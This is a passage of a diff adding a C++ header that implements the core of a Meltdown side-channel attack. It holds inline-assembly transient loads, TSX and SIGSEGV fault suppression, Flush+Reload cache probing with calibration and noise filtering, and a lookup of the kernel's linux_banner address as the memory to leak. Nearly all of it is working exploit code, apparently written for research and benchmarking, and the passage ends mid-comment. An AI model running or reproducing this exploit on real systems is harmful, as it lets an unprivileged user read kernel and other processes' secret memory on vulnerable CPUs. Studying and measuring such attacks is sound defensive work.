@@ -0,0 +1,1363 @@
+//=============================================================================
+// The meltdown primitives: probe region, transient load, cache probe and the
+// classification of probe rounds. Shared by the demo and the benchmarks.
+//=============================================================================
+
+#ifndef MELTDOWN_H
+#define MELTDOWN_H
+
+#include <vector>
+#include <algorithm>
+#include <array>
+#include <cmath>
+#include <fstream>
+#include <random>
+#include <string>
+#include <system_error>
+#include <stdint.h>
+#include <stdio.h>
+#include <unistd.h>
+#include <fcntl.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <linux/mman.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <sys/uio.h>
+#include <cpuid.h>
+#include <immintrin.h>
+
+#include "classify.h"
+#include "model.h"
+#include "numa.h"
+#include "timer.h"
+#include "trace.h"
+
+const size_t kDefaultMaxSamples = 32;
+const size_t kDefaultMargin = 2;
+
+// assume memory pages of 4096 or 2^12 bytes
+const size_t kPageSizeExp = 12;
+const size_t kPageSize = 1 << kPageSizeExp;
+const size_t kHugePageSize = 2 << 20;
+
+// The layout of the covert channel: every round transmits a symbol of
+// SymbolBits bits of the secret byte into one of 2^SymbolBits slots, spaced
+// 2^StrideExp bytes apart. The original layout sends the whole byte into 256
+// page-sized slots; narrower symbols need fewer lines per round but more
+// rounds per byte, shorter strides pollute fewer pages and TLB entries but
+// invite the prefetcher.
+template <size_t StrideExp, size_t SymbolBits>
+struct Layout {
+  static_assert(SymbolBits == 1 || SymbolBits == 4 || SymbolBits == 8,
+                "symbols must divide a byte");
+  static_assert(StrideExp >= 6 && StrideExp <= kPageSizeExp,
+                "slots must be cache lines within the probe region's pages");
+  static const size_t kStrideExp = StrideExp;
+  static const size_t kStride = size_t(1) << StrideExp;
+  static const size_t kSymbolBits = SymbolBits;
+  static const size_t kSlots = size_t(1) << SymbolBits;
+  static const size_t kSymbols = 8 / SymbolBits;
+};
+
+typedef Layout<kPageSizeExp, 8> ByteLayout;
+
+// A layout chosen at run time, see with_layout below.
+struct LayoutSpec {
+  size_t stride_exp = kPageSizeExp;
+  size_t symbol_bits = 8;
+
+  size_t stride() const { return size_t(1) << stride_exp; }
+  size_t slots() const { return size_t(1) << symbol_bits; }
+};
+
+// the strides and symbol widths with_layout dispatches to
+const size_t kLayoutStrideExps[] = {6, 8, 10, 12};
+const size_t kLayoutSymbolBits[] = {1, 4, 8};
+
+inline
+bool
+layout_supported(LayoutSpec const& layout) {
+  return std::count(std::begin(kLayoutStrideExps), std::end(kLayoutStrideExps),
+                    layout.stride_exp) &&
+         std::count(std::begin(kLayoutSymbolBits), std::end(kLayoutSymbolBits),
+                    layout.symbol_bits);
+}
+
+// The symbol widths by name: one bit in 2 slots, a nibble in 16 or the whole
+// byte in 256 slots per round.
+inline
+char const*
+encoding_name(size_t symbol_bits) {
+  switch (symbol_bits) {
+    case 1: return "bit";
+    case 4: return "nibble";
+    case 8: return "byte";
+  }
+  return "unknown";
+}
+
+inline
+bool
+parse_encoding(char const* name, size_t & symbol_bits) {
+  for (size_t candidate : kLayoutSymbolBits) {
+    if (strcmp(name, encoding_name(candidate)) == 0) {
+      symbol_bits = candidate;
+      return true;
+    }
+  }
+  return false;
+}
+
+template <size_t SymbolBits, typename Body>
+inline
+auto
+with_stride(size_t stride_exp, Body body) -> decltype(body(ByteLayout())) {
+  switch (stride_exp) {
+    case 6:  return body(Layout<6, SymbolBits>());
+    case 8:  return body(Layout<8, SymbolBits>());
+    case 10: return body(Layout<10, SymbolBits>());
+    default: return body(Layout<12, SymbolBits>());
+  }
+}
+
+// Calls body with a value of the Layout type that layout names, so that
+// run-time choices end up in code specialized at compile time. Layouts that
+// are not supported fall back to the original one, page-sized strides and
+// whole bytes, whatever their stride; check layout_supported first.
+template <typename Body>
+inline
+auto
+with_layout(LayoutSpec const& layout, Body body) -> decltype(body(ByteLayout())) {
+  switch (layout.symbol_bits) {
+    case 1:  return with_stride<1>(layout.stride_exp, body);
+    case 4:  return with_stride<4>(layout.stride_exp, body);
+    default: return with_stride<8>(layout.stride_exp, body);
+  }
+}
+
+// Page sizes the probe region can be backed with. Transparent huge pages are
+// a hint the kernel may ignore; hugetlbfs pages must have been reserved, e.g.
+// with vm.nr_hugepages.
+enum class PageKind {
+  kSmall,
+  kTransparent,
+  kHugetlb
+};
+
+inline
+char const*
+page_kind_name(PageKind pages) {
+  switch (pages) {
+    case PageKind::kSmall:       return "none";
+    case PageKind::kTransparent: return "thp";
+    case PageKind::kHugetlb:     return "hugetlb";
+  }
+  return "unknown";
+}
+
+inline
+bool
+parse_page_kind(char const* name, PageKind & pages) {
+  for (PageKind candidate : {PageKind::kSmall, PageKind::kTransparent, PageKind::kHugetlb}) {
+    if (strcmp(name, page_kind_name(candidate)) == 0) {
+      pages = candidate;
+      return true;
+    }
+  }
+  return false;
+}
+
+// The probe region holds the 256 slots of the covert channel, one page per
+// slot. Untouched anonymous pages may all be backed by the shared zero page,
+// in which case every slot aliases the same physical cache line. The region
+// is therefore prefaulted, locked and written before use. With huge pages the
+// whole region is covered by a single 2 MiB mapping and a single TLB entry.
+// Huge pages fall back to the next smaller kind if they cannot be had:
+// hugetlbfs to transparent, transparent to small pages. Given a NUMA node,
+// the pages are bound to it before they are first touched, so probes never
+// pay for a cross-socket access, unless the kernel refuses the binding.
+class ProbeRegion {
+public:
+  explicit
+  ProbeRegion(PageKind pages = PageKind::kSmall, int node = kNoNode)
+    : size_(256 * kPageSize)
+    , pages_(pages)
+  {
+    if (pages_ == PageKind::kHugetlb && !map_hugetlb()) {
+      pages_ = PageKind::kTransparent;
+    }
+    if (pages_ == PageKind::kTransparent && !map_transparent()) {
+      pages_ = PageKind::kSmall;
+    }
+    if (pages_ == PageKind::kSmall) {
+      map_small(node == kNoNode);
+    }
+    bind_to_node(data_, mapping_size(), node);
+    locked_ = mlock(data_, mapping_size()) == 0;
+
+    // write every page, so each slot gets its own physical page and no page
+    // fault is left for the hot loop
+    for (size_t j = 0; j < 256; ++j) {
+      memset(&data_[j * kPageSize], (int)j, kPageSize);
+    }
+  }
+
+  ~ProbeRegion() {
+    munmap(data_, mapping_size());
+  }
+
+  ProbeRegion(ProbeRegion const&) = delete;
+  ProbeRegion& operator=(ProbeRegion const&) = delete;
+
+  char * data() const { return data_; }
+  size_t size() const { return size_; }
+  // false if RLIMIT_MEMLOCK refused to lock the region
+  bool locked() const { return locked_; }
+  // the kind of pages asked for, after any fallback
+  PageKind pages() const { return pages_; }
+  int node() const { return numa_node_of_address(data_); }
+
+  // Whether the kernel really backs the region with a huge page, from the
+  // page size and huge page counters in /proc/self/smaps.
+  bool
+  huge_page_backed() const {
+    std::ifstream smaps("/proc/self/smaps");
+    std::string line;
+    bool inside = false;
+    while (std::getline(smaps, line)) {
+      size_t begin, end;
+      if (sscanf(line.c_str(), "%zx-%zx", &begin, &end) == 2 && line.find('-') < 16) {
+        inside = begin <= (size_t)data_ && (size_t)data_ < end;
+      } else if (inside) {
+        size_t kilobytes;
+        if (sscanf(line.c_str(), "AnonHugePages: %zu kB", &kilobytes) == 1 && kilobytes) {
+          return true;
+        }
+        if (sscanf(line.c_str(), "KernelPageSize: %zu kB", &kilobytes) == 1 &&
+            kilobytes * 1024 >= kHugePageSize) {
+          return true;
+        }
+      }
+    }
+    return false;
+  }
+
+  // Checks that no two slots share a physical page. Aliased slots would have
+  // overwritten each others marker. If the page frame numbers are readable
+  // (requires CAP_SYS_ADMIN) they are compared as well.
+  bool
+  slots_distinct() const {
+    for (size_t j = 0; j < 256; ++j) {
+      if ((unsigned char)data_[j * kPageSize] != j) {
+        return false;
+      }
+    }
+
+    int fd = open("/proc/self/pagemap", O_RDONLY);
+    if (fd < 0) {
+      return true;
+    }
+    std::vector<uint64_t> frames;
+    for (size_t j = 0; j < 256; ++j) {
+      uint64_t entry = 0;
+      off_t offset = ((size_t)&data_[j * kPageSize] / kPageSize) * sizeof(entry);
+      if (pread(fd, &entry, sizeof(entry), offset) != sizeof(entry)) {
+        break;
+      }
+      uint64_t frame = entry & ((uint64_t(1) << 55) - 1);
+      if (frame != 0) {
+        frames.push_back(frame);
+      }
+    }
+    close(fd);
+    std::sort(frames.begin(), frames.end());
+    return std::adjacent_find(frames.begin(), frames.end()) == frames.end();
+  }
+
+private:
+  size_t mapping_size() const {
+    return pages_ == PageKind::kSmall ? size_ : kHugePageSize;
+  }
+
+  void
+  map_small(bool populate) {
+    int flags = MAP_PRIVATE | MAP_ANONYMOUS | (populate ? MAP_POPULATE : 0);
+    void * mapping = mmap(nullptr, size_, PROT_READ | PROT_WRITE, flags, -1, 0);
+    if (mapping == MAP_FAILED) {
+      throw std::system_error(errno, std::generic_category(), "mmap probe region");
+    }
+    data_ = static_cast<char*>(mapping);
+  }
+
+  // Fails unless 2 MiB huge pages are reserved. The size is asked for
+  // explicitly: the default huge page size may be 1 GiB.
+  bool
+  map_hugetlb() {
+    void * mapping = mmap(nullptr, kHugePageSize, PROT_READ | PROT_WRITE,
+                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_HUGE_2MB, -1, 0);
+    if (mapping == MAP_FAILED) {
+      return false;
+    }
+    data_ = static_cast<char*>(mapping);
+    return true;
+  }
+
+  // Trims the mapping to a 2 MiB aligned range, so it can be backed by a
+  // transparent huge page. Fails if the kernel has no THP support.
+  bool
+  map_transparent() {
+    void * mapping = mmap(nullptr, 2 * kHugePageSize, PROT_READ | PROT_WRITE,
+                          MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (mapping == MAP_FAILED) {
+      return false;
+    }
+    char * start = static_cast<char*>(mapping);
+    size_t aligned = ((size_t)start + kHugePageSize - 1) & ~(kHugePageSize - 1);
+    size_t head = aligned - (size_t)start;
+    if (head) {
+      munmap(start, head);
+    }
+    munmap((char*)aligned + kHugePageSize, kHugePageSize - head);
+    data_ = (char*)aligned;
+    if (madvise(data_, kHugePageSize, MADV_HUGEPAGE) != 0) {
+      munmap(data_, kHugePageSize);
+      return false;
+    }
+    return true;
+  }
+
+  char * data_;
+  size_t size_;
+  bool locked_;
+  PageKind pages_;
+};
+
+// The protection key of every ProtectedBuffer, allocated once with access
+// disabled, or -1 if the host has none. A process gets only 15 keys, so all
+// buffers share this one. Call it before starting threads: they inherit the
+// PKRU of their creator and with it the disabled access.
+inline
+int
+canary_key() {
+  static int const key = pkey_alloc(0, PKEY_DISABLE_ACCESS);
+  return key;
+}
+
+// Memory a user-mode load faults on: its pages carry canary_key. This is what
+// the self-test plants its canary in, so the transient load has something to
+// suppress. Fill the buffer before it is protected; afterwards not even this
+// thread can read it.
+class ProtectedBuffer {
+public:
+  ProtectedBuffer(size_t size, int node)
+    : buffer_(size, node)
+    , protected_(false)
+  {}
+
+  ProtectedBuffer(ProtectedBuffer const&) = delete;
+  ProtectedBuffer& operator=(ProtectedBuffer const&) = delete;
+
+  // Disables every access to the buffer. Returns false if the host has no
+  // protection keys; the buffer then stays readable.
+  bool
+  protect() {
+    int key = canary_key();
+    protected_ = key >= 0 &&
+                 pkey_mprotect(buffer_.data(), buffer_.size(), PROT_READ | PROT_WRITE, key) == 0;
+    return protected_;
+  }
+
+  bool is_protected() const { return protected_; }
+  unsigned char * data() const { return buffer_.data(); }
+  size_t size() const { return buffer_.size(); }
+  unsigned char & operator[](size_t i) const { return buffer_[i]; }
+
+private:
+  NodeBuffer buffer_;
+  bool protected_;
+};
+
+// The kernel's version banner, linux_banner: supervisor memory, the canary
+// Meltdown is about. Its address comes from /proc/kallsyms, which shows
+// addresses to privileged readers only, and its text from /proc/version,
+// which prints the same bytes unless the UTS namespace renamed the kernel.
+// address is zero if either is missing.
+struct KernelBanner {
+  size_t address;
+  std::string text;
+};
+
+inline
+KernelBanner
+find_kernel_banner() {
+  KernelBanner banner{0, ""};
+  std::ifstream version("/proc/version");
+  if (!std::getline(version, banner.text)) {
+    return banner;
+  }
+  banner.text += '\n';
+  std::ifstream symbols("/proc/kallsyms");
+  std::string line;
+  while (std::getline(symbols, line)) {
+    size_t address;
+    char type, name[64];
+    if (sscanf(line.c_str(), "%zx %c %63s", &address, &type, name) == 3 &&
+        strcmp(name, "linux_banner") == 0) {
+      banner.address = address;
+      break;
+    }
+  }
+  return banner;
+}
+
+// Looked up once per process; kallsyms is long.
+inline
+KernelBanner const&
+kernel_banner() {
+  static KernelBanner const banner = find_kernel_banner();
+  return banner;
+}
+
+inline
+void
+flush_from_cache(char const* address) {
+  asm __volatile__ (
+    "mfence             \n"
+    "clflush 0(%0)      \n"
+    :
+    : "r" (address)
+    :
+  );
+}
+
+inline
+bool
+cpu_has_clflushopt() {
+  unsigned int eax, ebx, ecx, edx;
+  return __get_cpuid_count(7, 0, &eax, &ebx, &ecx, &edx) && (ebx & bit_CLFLUSHOPT);
+}
+
+// Flushes every slot with its own fence, one serializing mfence per line.
+template <typename Layout = ByteLayout>
+inline
+void
+flush_probe_region_serialized(char * buffer) {
+  for (size_t j = 0; j < Layout::kSlots; ++j) {
+    flush_from_cache(&buffer[j * Layout::kStride]);
+  }
+}
+
+// Flushes every slot with clflushopt, which is only ordered by fences, and
+// waits for all of them with a single mfence.
+template <typename Layout = ByteLayout>
+inline
+void
+flush_probe_region_batched(char * buffer) {
+  for (size_t j = 0; j < Layout::kSlots; ++j) {
+    asm __volatile__ ("clflushopt 0(%0)\n" : : "r" (&buffer[j * Layout::kStride]) :);
+  }
+  asm __volatile__ ("mfence\n" ::: "memory");
+}
+
+template <typename Layout = ByteLayout>
+inline
+void
+flush_probe_region(char * buffer) {
+  static const bool batched = cpu_has_clflushopt();
+  if (batched) {
+    flush_probe_region_batched<Layout>(buffer);
+  } else {
+    flush_probe_region_serialized<Layout>(buffer);
+  }
+}
+
+// The transient load is retried while it reads zero, because a racing load
+// often returns zero before the real value arrives. The retries are bounded,
+// so a byte that really is zero does not spin until the transaction aborts.
+const size_t kZeroRetryLimit = 256;
+
+// Outcomes of the transient loads. A TSX abort may carry several cause bits;
+// an abort without any (a fault or an interrupt) counts as unknown. Faults
+// are the SIGSEGVs caught by the signal backend. Zero retries are only
+// visible in loads that completed, an abort or fault loses the spin counter
+// together with everything else.
+struct TransientStatistics {
+  size_t attempts;
+  size_t completed;
+  size_t faults;
+  size_t aborts;
+  size_t conflict;
+  size_t capacity;
+  size_t explicit_aborts;
+  size_t retry;
+  size_t debug;
+  size_t nested;
+  size_t unknown;
+  size_t zero_retries;
+  size_t zero_retries_exhausted;
+};
+
+// The outcome of one transient load: completed, faulted or the status of an
+// aborted transaction. Traces record it per round.
+const uint32_t kTransientCompleted = _XBEGIN_STARTED;
+const uint32_t kTransientFaulted = _XBEGIN_STARTED - 1;
+
+inline
+void
+record_abort(unsigned int status, TransientStatistics & stats) {
+  stats.aborts++;
+  stats.conflict += (status & _XABORT_CONFLICT) != 0;
+  stats.capacity += (status & _XABORT_CAPACITY) != 0;
+  stats.explicit_aborts += (status & _XABORT_EXPLICIT) != 0;
+  stats.retry += (status & _XABORT_RETRY) != 0;
+  stats.debug += (status & _XABORT_DEBUG) != 0;
+  stats.nested += (status & _XABORT_NESTED) != 0;
+  stats.unknown += (status & (_XABORT_CONFLICT | _XABORT_CAPACITY | _XABORT_EXPLICIT |
+                              _XABORT_RETRY | _XABORT_DEBUG | _XABORT_NESTED)) == 0;
+}
+
+inline
+void
+record_completion(size_t spins, TransientStatistics & stats) {
+  stats.completed++;
+  stats.zero_retries += spins;
+  stats.zero_retries_exhausted += spins == kZeroRetryLimit;
+}
+
+// This is the core of the meltdown attack. The function performs the transient
+// instruction sequence of listing 2, page 8: load the secret byte and touch
+// the probe slot it selects. The load faults; one of the suppression backends
+// below keeps the fault from killing us. Narrow layouts shift the symbol at
+// bit shift down and mask it before it selects the slot; a zero byte still
+// encodes nothing. Returns the number of zero retries.
+template <typename Layout = ByteLayout>
+inline
+size_t
+transient_load(size_t address, char * buffer, size_t shift = 0) {
+  size_t spins;
+  asm __volatile__ (
+    "xorq %%rdx, %%rdx                  \n"
+    "retry%=:                           \n"
+    "xorq %%rax, %%rax                  \n"
+    "movb (%[address]), %%al            \n"
+    "testq %%rax, %%rax                 \n"
+    "jz zero%=                          \n"
+    "shrq %%cl, %%rax                   \n"
+    "andq %[mask], %%rax                \n"
+    "shlq %[exponent], %%rax            \n"
+    "movq (%[buffer], %%rax, 1), %%rbx  \n"
+    "jmp done%=                         \n"
+    "zero%=:                            \n"
+    "incq %%rdx                         \n"
+    "cmpq %[limit], %%rdx               \n"
+    "jb retry%=                         \n"
+    "done%=:                            \n"
+    : "=&d" (spins)
+    : [address]  "r" (address),
+      [buffer]   "r" (buffer),
+      [shift]    "c" (shift),
+      [mask]     "i" (Layout::kSlots - 1),
+      [exponent] "J" (Layout::kStrideExp),
+      [limit]    "i" (kZeroRetryLimit)
+    : "%rax", "%rbx", "cc"
+  );
+  return spins;
+}
+
+// Restricted transactional memory is fused off or disabled by microcode on
+// many CPUs. Executing _xbegin there raises #UD.
+inline
+bool
+cpu_has_rtm() {
+  unsigned int eax, ebx, ecx, edx;
+  return __get_cpuid_count(7, 0, &eax, &ebx, &ecx, &edx) && (ebx & bit_RTM);
+}
+
+// Fault suppression backends. Each one is a policy class with
+//
+//   static char const* name();
+//   static bool supported();
+//   template <typename Layout>
+//   static uint32_t transmit(size_t address, char * buffer, size_t shift,
+//                            TransientStatistics &);
+//
+// and is plugged into leak and sample_byte at compile time.
+
+// Runs the transient load in a memory transaction, which turns the fault into
+// an abort as described in the paper.
+struct TsxSuppression {
+  static char const* name() { return "tsx"; }
+  static bool supported() { return cpu_has_rtm(); }
+
+  template <typename Layout>
+  static
+  uint32_t
+  transmit(size_t address, char * buffer, size_t shift, TransientStatistics & stats) {
+    unsigned int status;
+    stats.attempts++;
+    if ((status = _xbegin()) == _XBEGIN_STARTED) {
+      size_t spins = transient_load<Layout>(address, buffer, shift);
+      _xend();
+      record_completion(spins, stats);
+      return kTransientCompleted;
+    }
+    asm __volatile__ ("mfence\n" :::);
+    record_abort(status, stats);
+    return status;
+  }
+};
+
+// Lets the load fault and jumps back out of the SIGSEGV handler, section 4.1
+// of the paper. Slower than TSX, but works everywhere. The handler only
+// jumps if the faulting thread is inside transmit; any other SIGSEGV is
+// still fatal, once the live traces are written out.
+struct SignalSuppression {
+  static char const* name() { return "signal"; }
+  static bool supported() { return true; }
+
+  template <typename Layout>
+  static
+  uint32_t
+  transmit(size_t address, char * buffer, size_t shift, TransientStatistics & stats) {
+    static bool const installed = install_handler();
+    (void)installed;
+    stats.attempts++;
+    if (sigsetjmp(state().jump_buffer, 0) == 0) {
+      state().armed = true;
+      size_t spins = transient_load<Layout>(address, buffer, shift);
+      state().armed = false;
+      record_completion(spins, stats);
+      return kTransientCompleted;
+    }
+    state().armed = false;
+    stats.faults++;
+    return kTransientFaulted;
+  }
+
+private:
+  struct State {
+    sigjmp_buf jump_buffer;
+    volatile sig_atomic_t armed;
+  };
+
+  static
+  State &
+  state() {
+    static thread_local State state;
+    return state;
+  }
+
+  static
+  void
+  handle_fault(int signal) {
+    if (state().armed) {
+      siglongjmp(state().jump_buffer, 1);
+    }
+    TraceRecorder::write_live();
+    ::signal(signal, SIG_DFL);
+    raise(signal);
+  }
+
+  // SA_NODEFER keeps SIGSEGV unblocked after the jump, so the jump buffer
+  // does not need to save the signal mask
+  static
+  bool
+  install_handler() {
+    struct sigaction action;
+    memset(&action, 0, sizeof(action));
+    action.sa_handler = handle_fault;
+    action.sa_flags = SA_NODEFER;
+    sigemptyset(&action.sa_mask);
+    return sigaction(SIGSEGV, &action, nullptr) == 0;
+  }
+};
+
+// Stands in for the hardware where the attack cannot run: the byte is read
+// architecturally and its slot is handed to the TimingSimulator of the channel,
+// which produces the access times of the following probe round. Addresses
+// we cannot read count as faults.
+struct SimulatedSuppression {
+  static char const* name() { return "simulated"; }
+  static bool supported() { return true; }
+
+  template <typename Layout>
+  static
+  uint32_t
+  transmit(size_t address, char * buffer, size_t shift, TransientStatistics & stats) {
+    stats.attempts++;
+    unsigned char value;
+    struct iovec local = {&value, 1};
+    struct iovec remote = {(void *)address, 1};
+    if (process_vm_readv(getpid(), &local, 1, &remote, 1, 0) != 1) {
+      encoded() = -1;
+      stats.faults++;
+      return kTransientFaulted;
+    }
+    // like the transient load, never encode a zero byte
+    encoded() = value ? (value >> shift) & (Layout::kSlots - 1) : -1;
+    record_completion(0, stats);
+    return kTransientCompleted;
+  }
+
+  // the slot encoded since the last call, or -1
+  static
+  int
+  take_encoded() {
+    int slot = encoded();
+    encoded() = -1;
+    return slot;
+  }
+
+private:
+  static
+  int &
+  encoded() {
+    static thread_local int slot = -1;
+    return slot;
+  }
+};
+
+// Suppresses nothing: the same load and encoding run architecturally, so
+// only readable addresses can be sampled. It measures the Flush+Reload
+// channel alone, the upper bound of what the transient backends can reach.
+struct NoSuppression {
+  static char const* name() { return "baseline"; }
+  static bool supported() { return true; }
+
+  template <typename Layout>
+  static
+  uint32_t
+  transmit(size_t address, char * buffer, size_t shift, TransientStatistics & stats) {
+    stats.attempts++;
+    record_completion(transient_load<Layout>(address, buffer, shift), stats);
+    return kTransientCompleted;
+  }
+};
+
+enum class Backend {
+  kTsx,
+  kSignal,
+  kSimulated,
+  kBaseline
+};
+
+inline
+char const*
+backend_name(Backend backend) {
+  switch (backend) {
+    case Backend::kTsx:       return TsxSuppression::name();
+    case Backend::kSignal:    return SignalSuppression::name();
+    case Backend::kSimulated: return SimulatedSuppression::name();
+    case Backend::kBaseline:  return NoSuppression::name();
+  }
+  return "unknown";
+}
+
+inline
+bool
+parse_backend(char const* name, Backend & backend) {
+  for (Backend candidate : {Backend::kTsx, Backend::kSignal, Backend::kSimulated,
+                            Backend::kBaseline}) {
+    if (strcmp(name, backend_name(candidate)) == 0) {
+      backend = candidate;
+      return true;
+    }
+  }
+  return false;
+}
+
+inline
+bool
+backend_supported(Backend backend) {
+  switch (backend) {
+    case Backend::kTsx:       return TsxSuppression::supported();
+    case Backend::kSignal:    return SignalSuppression::supported();
+    case Backend::kSimulated: return SimulatedSuppression::supported();
+    case Backend::kBaseline:  return NoSuppression::supported();
+  }
+  return false;
+}
+
+template <typename Suppression, typename Layout = ByteLayout>
+inline
+uint32_t
+leak(size_t address, char * buffer, TransientStatistics & stats, size_t shift = 0) {
+  flush_probe_region<Layout>(buffer);
+  return Suppression::template transmit<Layout>(address, buffer, shift, stats);
+}
+
+// This function returns the number of cycles required to access a given
+// address. It is the receiving end of the meltdown covert channel. 
+// See https://eprint.iacr.org/2013/448.pdf figure 4 on page 5.
+inline
+uint32_t
+probe_access_time(char const* address, Timer const& timer) {
+  uint64_t start = timer_start(timer);
+  asm __volatile__ (
+    "movb (%0), %%al    \n"
+    :
+    : "r" (address)
+    : "%al", "memory"
+  );
+  uint64_t stop = timer_stop(timer);
+  asm __volatile__ ("clflush 0(%0)\n" : : "r" (address) : "memory");
+  return timer_elapsed(timer, start, stop);
+}
+
+// Latency histograms for cached and flushed probe accesses, one bin per
+// cycle. The last bin collects everything slower.
+const size_t kHistogramBins = 1024;
+const size_t kCalibrationPasses = 64;
+
+typedef std::array<size_t, kHistogramBins> Histogram;
+
+inline
+size_t
+percentile(Histogram const& histogram, double fraction) {
+  size_t total = 0;
+  for (size_t count : histogram) {
+    total += count;
+  }
+  size_t rank = (size_t)(fraction * total);
+  size_t seen = 0;
+  for (size_t t = 0; t < kHistogramBins; ++t) {
+    seen += histogram[t];
+    if (seen > rank) {
+      return t;
+    }
+  }
+  return kHistogramBins - 1;
+}
+
+struct Calibration {
+  Histogram hits{};
+  Histogram misses{};
+  size_t threshold;
+
+  // the hit and miss distributions must not be swapped or on top of each other
+  bool valid() const { return percentile(hits, 0.5) < percentile(misses, 0.5); }
+};
+
+// Picks the hit/miss threshold that misclassifies the fewest samples of the
+// histograms.
+inline
+void
+choose_threshold(Calibration & calibration) {
+  // errors(t) = hits slower than t + misses not slower than t
+  size_t errors = 0;
+  for (size_t count : calibration.hits) {
+    errors += count;
+  }
+  // on a plateau of equally good thresholds take the middle one
+  size_t fewest_errors = errors;
+  size_t first = 0, last = 0;
+  for (size_t t = 0; t < kHistogramBins; ++t) {
+    errors = errors - calibration.hits[t] + calibration.misses[t];
+    if (errors < fewest_errors) {
+      fewest_errors = errors;
+      first = last = t;
+    } else if (errors == fewest_errors && last + 1 == t) {
+      last = t;
+    }
+  }
+  calibration.threshold = (first + last) / 2;
+}
+
+// Measures the cost of a cached and a flushed access on every probe slot.
+inline
+Calibration
+calibrate(char * buffer, Timer const& timer) {
+  Calibration calibration;
+  for (size_t i = 0; i < kCalibrationPasses; ++i) {
+    for (size_t j = 0; j < 256; ++j) {
+      char * slot = &buffer[j * kPageSize];
+      *(volatile char *)slot;
+      size_t hit = probe_access_time(slot, timer);
+      size_t miss = probe_access_time(slot, timer);
+      calibration.hits[std::min(hit, kHistogramBins - 1)]++;
+      calibration.misses[std::min(miss, kHistogramBins - 1)]++;
+    }
+  }
+  choose_threshold(calibration);
+  return calibration;
+}
+
+// The same for the simulated backend, with latencies drawn from its model.
+inline
+Calibration
+calibrate(TimingSimulator & simulator) {
+  Calibration calibration;
+  for (size_t i = 0; i < kCalibrationPasses * 256; ++i) {
+    calibration.hits[std::min<size_t>(simulator.hit(), kHistogramBins - 1)]++;
+    calibration.misses[std::min<size_t>(simulator.miss(), kHistogramBins - 1)]++;
+  }
+  choose_threshold(calibration);
+  return calibration;
+}
+
+// Poisoned rounds by reason. discarded were thrown away and repeated, kept
+// voted because the retry budget of their symbol was spent.
+struct PoisonStatistics {
+  size_t slow;
+  size_t crowded;
+  size_t jumps;
+  size_t ambiguous;
+  size_t discarded;
+  size_t kept;
+};
+
+// The threshold moved by kDriftEventShare or more since calibration or the
+// previous event, at the given byte.
+struct DriftEvent {
+  size_t byte;
+  size_t from;
+  size_t to;
+  uint32_t hit;                 // moving averages of the reference probes
+  uint32_t miss;
+};
+
+struct ChannelStatistics {
+  size_t bytes;
+  size_t rounds;                // including discarded ones
+  size_t no_hit_rounds;
+  size_t no_hit_bytes;
+  TransientStatistics transient;
+  PoisonStatistics poisoned;
+  size_t reference_probes;      // pairs of a known hit and a known miss
+  std::vector<DriftEvent> drift;
+};
+
+// The order in which the receiver probes the slots. Probing in address order
+// lets the stride prefetcher pull later slots into the cache, which shows up
+// as false hits. A fixed pseudo-random permutation defeats it. Layouts with
+// fewer slots probe the first slots entries, which permute just their slots.
+typedef std::array<uint8_t, 256> ProbeOrder;
+
+const uint32_t kProbeOrderSeed = 0x6d656c74;
+
+inline
+ProbeOrder
+sequential_probe_order() {
+  ProbeOrder order;
+  for (size_t j = 0; j < 256; ++j) {
+    order[j] = (uint8_t)j;
+  }
+  return order;
+}
+
+inline
+ProbeOrder
+permuted_probe_order(uint32_t seed = kProbeOrderSeed, size_t slots = 256) {
+  ProbeOrder order = sequential_probe_order();
+  std::shuffle(order.begin(), order.begin() + slots, std::mt19937(seed));
+  return order;
+}
+
+// A round an interrupt or a context switch landed in is poisoned: every slot
+// is slow, more slots hit than the transient load and the odd prefetch can
+// explain, or the round took many times longer than rounds usually do. A
+// round whose two fastest slots both hit, too close to tell apart, is
+// ambiguous and is repeated the same way.
+enum class Poison {
+  kNone,
+  kSlow,
+  kCrowded,
+  kJump,
+  kAmbiguous
+};
+
+const uint32_t kMaxRoundHits = 2;
+const uint64_t kRoundJumpFactor = 8;
+const size_t kDefaultRetries = 8;
+
+// Rounds are slow if even their fastest slot is slower than this share of the
+// calibrated misses.
+const double kSlowPercentile = 0.99;
+
+inline
+uint32_t
+slow_threshold(Calibration const& calibration) {
+  return (uint32_t)percentile(calibration.misses, kSlowPercentile);
+}
+
+// Two hits are told apart if they are at least this share of the distance
+// between the calibrated hit and miss medians apart.
+const double kAmbiguousShare = 0.25;
+
+inline
+uint32_t
+ambiguous_margin(double hit, double miss) {
+  return miss > hit ? (uint32_t)std::lround(kAmbiguousShare * (miss - hit)) : 0;
+}
+
+inline
+uint32_t
+ambiguous_margin(Calibration const& calibration) {
+  return ambiguous_margin(percentile(calibration.hits, 0.5), percentile(calibration.misses, 0.5));
+}
+
+// Spots poisoned rounds. Up to retries of them per symbol are discarded and
+// repeated; beyond that budget they vote like any other round, so a host where
+// every round looks poisoned samples as if nothing were filtered.
+struct RoundFilter {
+  uint32_t slow = UINT32_MAX;
+  uint32_t max_hits = kMaxRoundHits;
+  uint32_t min_margin = 0;              // between two hits, see ambiguous_margin
+  size_t retries = kDefaultRetries;
+  uint64_t round_cycles = 0;            // moving average, learned from the rounds
+
+  // A single long round moves the average by at most 1/16 of it, a lasting
+  // slowdown is tracked within some 40 rounds.
+  Poison
+  inspect(RoundSummary const& summary, uint64_t cycles) {
+    bool jump = round_cycles && cycles > kRoundJumpFactor * round_cycles;
+    round_cycles = round_cycles ? round_cycles - round_cycles / 16 +
+                                  std::min(cycles, 2 * round_cycles) / 16
+                                : cycles;
+    bool ambiguous = summary.hits > 1 && summary.margin() < min_margin;
+    return jump                        ? Poison::kJump
+         : summary.fastest > slow      ? Poison::kSlow
+         : summary.hits > max_hits     ? Poison::kCrowded
+         : ambiguous                   ? Poison::kAmbiguous
+         : Poison::kNone;
+  }
+};
+
+inline
+void
+count_poison(PoisonStatistics & stats, Poison poison) {
+  stats.slow += poison == Poison::kSlow;
+  stats.crowded += poison == Poison::kCrowded;
+  stats.jumps += poison == Poison::kJump;
+  stats.ambiguous += poison == Poison::kAmbiguous;
+}
+
+const size_t kDefaultReferenceInterval = 16;
+const double kDriftWeight = 1.0 / 64;
+const double kDriftEventShare = 0.1;
+
+// Follows turbo and power-state changes during long runs. Every interval-th
+// round is followed by a probe of a known hit and of a known miss, and
+// exponential moving averages of the two move the threshold and the slow
+// round bound along, keeping their place between hits and misses found by
